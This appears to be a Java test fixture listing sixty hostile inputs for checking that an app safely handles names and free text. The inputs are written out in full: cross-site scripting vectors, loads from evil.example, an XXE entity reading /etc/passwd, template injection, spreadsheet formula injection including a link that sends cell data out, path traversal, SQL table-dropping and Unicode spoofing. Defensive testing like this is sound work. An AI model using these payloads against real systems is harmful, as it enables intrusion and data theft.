package org.homeward.stories;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Sixty texts that someone may type, or send, where a name or ordinary text is expected. */
final class HostilePayloads {

    /** @param name what it attempts */
    record Payload(String name, String text) {

        /** A file that contains it is refused, because it is not valid text. */
        boolean isNoText() {
            return text.indexOf('\0') >= 0 || text.codePoints().anyMatch(sign -> sign >= 0xD800 && sign <= 0xDFFF);
        }
    }

    static final int LONGEST = 100_000;

    private HostilePayloads() {}

    static final List<Payload> ALL = List.of(
            of("script", "<script>window.__hw('script')</script>"),
            of("image", "<img src=x onerror=\"window.__hw('img')\">"),
            of("picture", "<svg onload=\"window.__hw('svg')\"></svg>"),
            of("script in a picture", "<svg><script>window.__hw('svg script')</script></svg>"),
            of("out of an attribute", "\"><script>window.__hw('attribute')</script>"),
            of("out of a quoted attribute", "'><img src=x onerror=window.__hw('quoted')>"),
            of("frame", "<iframe srcdoc=\"<script>parent.__hw('frame')</script>\"></iframe>"),
            of("link", "<a href=\"javascript:window.__hw('link')\">press</a>"),
            of("address", "javascript:window.__hw('address')"),
            of("body", "<body onload=window.__hw('body')>"),
            of("details", "<details open ontoggle=window.__hw('details')>x</details>"),
            of("focus", "<input autofocus onfocus=window.__hw('focus')>"),
            of("mutation", "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hw('mutation')>"),
            of("out of a title", "</title><script>window.__hw('title')</script>"),
            of("out of a text area", "</textarea></style><script>window.__hw('area')</script>"),
            of("out of a comment", "<!--<img src=\"--><img src=x onerror=window.__hw('comment')>"),
            of("style", "<style>@import 'http://evil.example/x.css'; * { display: none }</style>"),
            of("refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">"),
            of("base", "<base href=\"http://evil.example/\">"),
            of("sheet", "<link rel=stylesheet href=http://evil.example/x.css>"),
            of("entities", "&lt;script&gt;window.__hw('entity')&lt;/script&gt; &amp;amp;"),
            of("numbered entities", "&#x3c;img src=x onerror=window.__hw('number')&#x3e;"),
            of("escapes", "\\u003cscript\\u003ewindow.__hw('escape')\\u003c/script\\u003e"),
            of("template braces", "{{constructor.constructor('window.__hw(1)')()}} {a|b} {b}"),
            of("dollar braces", "${window.__hw('dollar')} `${window.__hw('tick')}`"),
            of("expression", "#{7*7} *{7*7} ~{x} T(java.lang.Runtime).getRuntime()"),
            of("server page", "<%= 7*7 %> <?php echo 49 ?> <jsp:include page=\"x\"/>"),
            of("report fields", "$P{marking} $F{words} $V{x} $R{paper.filters} $X{IN,a,b}"),
            of("report style", "<style isBold=\"true\" size=\"40\">styled</style>"),
            of("markup", "<b>bold</b> <i>slanted</i> <u>under</u> <font color=\"red\">red</font>"),
            of("entity file", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]> &a; <![CDATA[ x ]]>"),
            of("command", "=cmd|' /C calc'!A0"),
            of("hyperlink", "=HYPERLINK(\"http://evil.example/?\"&A1,\"press\")"),
            of("plus", "+1+1"),
            of("minus", "-2+3+cmd|' /C calc'!A0"),
            of("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
            of("tab first", "\t=1+1"),
            of("return first", "\r=1+1"),
            of("blank first", " =1+1"),
            of("full-width equals", "\uFF1D1+1"),
            of("full-width plus", "\uFF0B1+1"),
            of("full-width minus", "\uFF0D1+1"),
            of("full-width at", "\uFF20SUM(1)"),
            of("quotes and commas", "\"quoted\", \"twice\"\" and, a comma;'"),
            of("new lines", "line one\nline two\r\nline three\n\n=1+1"),
            of("separators", "sep=;|x\ty;z"),
            of("turned around", "safe\u202Egnp.exe"),
            of("marks of direction", "\u2066one \u202Dtwo\u200F three\u061C\u2069"),
            of("nothing to see", "zero\u200Bwidth\uFEFFno\u2060break\u00ADsoft"),
            of("zero byte", "before\0after"),
            of("half of a pair", "half\uD83Dpair"),
            of("combining storm", ("Z" + "\u0301\u0323\u0334".repeat(20)).repeat(3)),
            of("very long", words(LONGEST - 20)),
            of("emoji", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDFF4\uD83D\uDE00 ☺️"),
            of("right to left", "قالت شيئا 12 שלום 34 done"),
            of("terminal", "\u001B[31mred\u001B[0m\u001B]0;title\u0007\b\b"),
            of("formats", "%s %n %1$s %x {0} {1,number} '{2}' ''"),
            of("path", "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd"),
            of("one long token", "m".repeat(5_000)),
            of("query", "'; drop table homeward.child_version; -- \u2028\u2029\u0085"));

    private static Payload of(String name, String text) {
        return new Payload(name, text);
    }

    private static String words(int length) {
        return IntStream.range(0, length / 7).mapToObj("w%05d"::formatted).collect(Collectors.joining(" "));
    }
}
